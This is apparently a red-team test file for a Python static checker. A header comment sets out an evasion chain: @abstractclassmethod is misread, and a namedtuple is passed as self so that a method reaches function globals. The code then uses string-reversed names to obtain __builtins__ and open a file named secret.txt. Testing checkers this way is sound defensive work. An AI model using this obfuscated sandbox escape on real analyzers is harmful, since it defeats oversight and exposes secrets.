# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: abc.abstractclassmethod is a classmethod subclass, but objects._class_value only counts a first
# parameter as a class when the decorator is named "classmethod". `def kind(k): return k` under
# @abstractclassmethod hands out the class unnoticed, so k.fetch on a parameter is "bound" (objects._bound)
# and Reader.fetch runs with a namedtuple as self: its class-constant self.FIELDS is ["__globals__"].
from abc import abstractclassmethod
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out

    @abstractclassmethod
    def kind(k):
        return k


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(Reader.kind(), box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
